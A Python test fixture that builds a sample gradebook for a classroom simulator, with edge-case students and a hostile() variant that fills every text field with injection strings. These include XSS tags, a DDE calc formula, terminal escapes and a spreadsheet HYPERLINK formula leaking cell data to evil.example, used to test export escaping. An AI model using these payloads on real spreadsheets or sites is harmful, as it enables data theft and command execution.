"""A class of twelve with three assignments, put together by hand: every case that an export has to get right is in it once.

Who is who: `s01` plain, best of three tries; `s02` changed by hand; `s03` handed in a copy; `s04` nothing in the second
assignment; `s05` erased; `s06` no number; `s07` a decision withdrawn to the automatic mark; `s08` full marks; `s09` a red line; `s10`
its clock is a year ahead; `s11` slow; `s12` never handed anything in.
"""

from __future__ import annotations

import msgspec

from simulator.classroom.model import (
    Assignment,
    Cell,
    Facet,
    Gradebook,
    Lost,
    Mark,
    Override,
    Requirement,
    Student,
    Try,
)
from simulator.kernel.text import Text

DAY = 86_400_000
MINUTE = 60_000
BEGIN = 1_757_203_200_000  # 2025-09-07 00:00 UTC
TAKEN = BEGIN + 21 * DAY + 5 * 3_600_000 + 4 * MINUTE

NAMES = ["张伟", "王秀英", "李娜", "刘洋", "", "欧阳子涵", "Anna Müller", "赵敏", "孙磊", "周杰", "吴昊", "郑欣怡"]

DECLARED = Text("申报货值 20.00 美元，市场价值 89.00 美元", "declared 20.00 USD, worth 89.00 USD")
LATE = Text("晚了 1 天 4 小时才发出，买家选的是三日达", "shipped 1 d 4 h late; the buyer had chosen three days")
SILENT = Text("超过 8 小时没有答复", "no answer for more than 8 hours")
GATE = Text("明知而虚报货值，或把销售写成礼品", "A knowingly false value, or a sale called a gift")

# requirement -> facets (id, weight, title, what loses points)
RUBRIC = {
    "11.1.1": [
        ("selected", 40, Text("只选已付、应发的订单，且一个不漏", "All orders that are due, and only those"), LATE),
        ("level", 60, Text("服务等级与买家所选一致", "Service level as the buyer chose"), LATE),
    ],
    "11.1.2": [
        ("value", 70, Text("申报货值与市场价值一致", "Declared value as the market value"), DECLARED),
        ("code", 30, Text("税号与品名相符", "Tariff code fits the goods"), DECLARED),
    ],
    "9.2.1": [("first", 100, Text("按时首次答复", "First reply in time"), SILENT)],
    "9.2.5": [("rate", 100, Text("投诉率下降", "Complaints went down"), SILENT)],
}

ASSIGNMENTS = (
    Assignment(
        id="a1", title="三天发完这批货", pack="table1", pack_version="0.2.0", pack_digest="d1" * 32, scenario="11.1",
        rubric="d1" * 32, created=BEGIN, opens=BEGIN, closes=BEGIN + 7 * DAY,
    ),
    Assignment(
        id="a2", title="客服台的三天", pack="table1", pack_version="0.2.0", pack_digest="d1" * 32, scenario="9.2",
        rubric="d1" * 32, created=BEGIN, pass_at=7_000, counts="last",
    ),
    Assignment(
        id="a3", title="Improvement (2025)", pack="table1", pack_version="0.2.0", pack_digest="d1" * 32, scenario="9.2.5",
        rubric="d1" * 32, created=BEGIN,
    ),
)  # fmt: skip
ASKED = {"a1": ("11.1.2", "11.1.1"), "a2": ("9.2.1", "11.1.1"), "a3": ("9.2.5",)}


def facet(requirement: str, place: int, points: int) -> Facet:
    """A facet with so many points; what it lost is in one finding."""
    id, weight, title, why = RUBRIC[requirement][place]
    lost = (Lost(unit=f"order#{place + 3}", points=points // 2, why=why, evidence=(17, 42)),) if points < 10_000 else ()
    return Facet(id=id, title=title, weight=weight, points=points, worst=lost)


def requirement(id: str, *points: int, gate: bool = False) -> Requirement:
    """A requirement with so many points in each of its facets."""
    facets = tuple(facet(id, place, p) for place, p in enumerate(points))
    total = 0 if gate else sum(f.weight * f.points for f in facets) // 100
    return Requirement(
        id=id, points=total, passed=total >= 6_000, gates=(GATE,) if gate else (), facets=facets,
    )  # fmt: skip


def mark(*requirements: Requirement) -> Mark:
    """The mark of a try: the mean of its requirements."""
    return Mark(
        rubric="d1" * 32, points=sum(r.points for r in requirements) // len(requirements), requirements=requirements
    )


def sample_mark(assignment: str, level: int, gate: bool = False) -> Mark:
    """A mark near `level` in an assignment."""
    made = []
    for id in ASKED[assignment]:
        points = [min(10_000, max(0, level - 700 * i)) for i in range(len(RUBRIC[id]))]
        made.append(requirement(id, *points, gate=gate and id == "11.1.2"))
    return mark(*made)


def a_try(student: str, assignment: str, number: int, level: int | None, **other: object) -> Try:
    """A try that ended on the day of its number, with a mark near `level` or none."""
    ended = BEGIN + number * DAY + 9 * 3_600_000
    fields: dict[str, object] = {
        "id": f"{assignment}-{student}-{number}",
        "student": student,
        "assignment": assignment,
        "attempt": f"t{number}",
        "number": number,
        "seed": f"{assignment}-{student}",
        "received": ended + DAY,
        "started": ended - 90 * MINUTE,
        "ended": ended,
        "active": (40 + int(student[1:])) * MINUTE + 1_230,
        "commands": 80 + number,
        "minutes": 3_600,
        "head": f"{int(student[1:]):02d}{number:02d}" * 16,
        "source": f"{student}-{number}.storesim",
        "mark": None if level is None else sample_mark(assignment, level),
    }
    return Try(**{**fields, **other})  # type: ignore[arg-type]


def cell_of(*tries: Try, counting: int | None = None, override: Override | None = None) -> Cell:
    """A cell whose counting try is number `counting` (by default the last with a mark)."""
    marked = [t for t in tries if t.mark is not None]
    counted = marked[-1] if counting is None and marked else next((t for t in tries if t.number == counting), None)
    automatic = counted.mark.points if counted is not None and counted.mark is not None else None
    points = override.points if override is not None and override.points is not None else automatic
    first = tries[0] if tries else None
    return Cell(
        student=first.student if first else "", assignment=first.assignment if first else "", points=points,
        automatic=automatic, counting=counted.id if counted is not None else "", tries=tries, override=override,
    )  # fmt: skip


def students() -> tuple[Student, ...]:
    """Twelve, in the order of their numbers; the fifth is erased."""
    found = []
    for n, name in enumerate(NAMES, 1):
        if n == 5:
            found.append(Student(id="s05", erased=True))
            continue
        number = "" if n == 6 else f"202501{n:04d}"
        email = f"student{n}@school.example"
        found.append(Student(id=f"s{n:02d}", number=number, name=name, email=email, group="一组" if n % 2 else "二组"))
    return tuple(found)


def cells() -> dict[tuple[str, str], Cell]:
    """What each student did in each assignment."""
    made: dict[tuple[str, str], Cell] = {}

    def put(student: str, assignment: str, cell: Cell) -> None:
        made[student, assignment] = msgspec.structs.replace(cell, student=student, assignment=assignment)

    levels = {
        "s02": 6_450,
        "s04": 7_300,
        "s05": 5_900,
        "s06": 8_850,
        "s07": 7_000,
        "s09": 9_100,
        "s10": 7_700,
        "s11": 4_800,
    }
    for student, level in levels.items():
        for assignment, shift in (("a1", 0), ("a2", 400), ("a3", -900)):
            put(student, assignment, cell_of(a_try(student, assignment, 1, level + shift)))
    for assignment in ("a1", "a2", "a3"):
        put("s08", assignment, cell_of(a_try("s08", assignment, 1, 10_700)))
    rising = [a_try("s01", "a1", 1, 3_000), a_try("s01", "a1", 2, 8_200), a_try("s01", "a1", 3, 7_600)]
    put("s01", "a1", cell_of(*rising, counting=2))
    put("s01", "a2", cell_of(a_try("s01", "a2", 1, 5_000), a_try("s01", "a2", 2, 9_050)))
    put("s01", "a3", cell_of(a_try("s01", "a3", 1, 6_667)))
    decided = Override(
        id="o1", student="s02", assignment="a1", points=7_550, reason="断电重启，补记两单", author="陈老师",
        at=BEGIN + 10 * DAY,
    )  # fmt: skip
    put("s02", "a1", cell_of(a_try("s02", "a1", 1, 6_450), override=decided))
    copied = a_try(
        "s03", "a1", 1, None, verdict="copied",
        says=(Text("与学生 s01 的存档逐字节相同。", "It is byte for byte the save of student s01."),),
    )  # fmt: skip
    put("s03", "a1", cell_of(copied))
    put("s03", "a2", cell_of(a_try("s03", "a2", 1, 7_450)))
    del made["s04", "a2"]
    withdrawn = Override(
        id="o2", student="s07", assignment="a1", points=None, reason="核对后恢复", author="陈老师", at=BEGIN + 11 * DAY
    )
    put("s07", "a1", cell_of(a_try("s07", "a1", 1, 7_000), a_try("s07", "a1", 2, 7_900), override=withdrawn))
    crossed = a_try("s09", "a1", 1, None, mark=sample_mark("a1", 9_100, gate=True))
    put("s09", "a1", cell_of(crossed))
    ahead = a_try("s10", "a1", 1, 7_700, started=BEGIN + 400 * DAY, ended=BEGIN + 400 * DAY + 90 * MINUTE)
    put("s10", "a1", cell_of(ahead))
    put("s11", "a1", cell_of(a_try("s11", "a1", 1, 4_800, active=400 * MINUTE)))
    return made


def gradebook(**other: object) -> Gradebook:
    """The class; `other` replaces fields."""
    fields: dict[str, object] = {
        "id": "c1", "title": "2025 级跨境电商 1 班", "students": students(), "assignments": ASSIGNMENTS, "cells": cells(),
        "taken": TAKEN,
    }  # fmt: skip
    return Gradebook(**{**fields, **other})  # type: ignore[arg-type]


def given_without_a_try() -> Gradebook:
    """The class, in which the last student was given a mark in the first assignment without handing anything in."""
    given = Override(
        id="o3", student="s12", assignment="a1", points=6_000, reason="口试补考", author="陈老师", at=BEGIN + 12 * DAY
    )
    made = cells()
    made["s12", "a1"] = msgspec.structs.replace(cell_of(override=given), student="s12", assignment="a1")
    return gradebook(cells=made)


def empty() -> Gradebook:
    """A class with nobody in it and nothing to do."""
    return Gradebook(id="c0", title="空班", students=(), assignments=(), cells={}, taken=TAKEN)


HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "[/red]\x1b[31m红\x1b]0;owned\x07",
    "\u202egnp.exe\u2066abc\u200b",
    "长" * 10_000,
    "＝cmd|'/c calc'!A1",
    ' "=1+1',
    "a;=2+2",
    "{{ 7*7 }}{% raw %}",
    "'\"><img src=x onerror=alert(1)>\ufffe\x00\ud800",
    "Points Possible",
    "-",
)


def hostile() -> Gradebook:
    """The class with hostile text wherever somebody types: names, groups, reasons, titles, seeds, files, evidence."""

    def bad(n: int) -> str:
        return HOSTILE[n % len(HOSTILE)]

    people = tuple(
        msgspec.structs.replace(s, name=bad(n), group=bad(n + 1)) if not s.erased else s
        for n, s in enumerate(students())
    )
    assignments = tuple(
        msgspec.structs.replace(a, title=bad(n + 1), pack_version=bad(n)) for n, a in enumerate(ASSIGNMENTS)
    )
    made = {}
    for n, (key, cell) in enumerate(cells().items()):
        tries = tuple(
            msgspec.structs.replace(
                t, seed=bad(n + 2), source=bad(n + 3), says=(Text(bad(n), bad(n)),), mark=_hostile_mark(t.mark, bad(n))
            )
            for t in cell.tries
        )
        override = cell.override
        if override is not None:
            override = msgspec.structs.replace(override, reason=bad(n), author=bad(n + 1))
        made[key] = msgspec.structs.replace(cell, tries=tries, override=override)
    return gradebook(title=bad(0), students=people, assignments=assignments, cells=made)


def _hostile_mark(found: Mark | None, text: str) -> Mark | None:
    if found is None:
        return None
    said = Text(text, text)
    changed = []
    for r in found.requirements:
        facets = tuple(
            msgspec.structs.replace(
                f, title=said, worst=tuple(msgspec.structs.replace(x, why=said, unit=text) for x in f.worst)
            )
            for f in r.facets
        )
        changed.append(msgspec.structs.replace(r, facets=facets, gates=tuple(said for _ in r.gates)))
    return msgspec.structs.replace(found, requirements=tuple(changed))
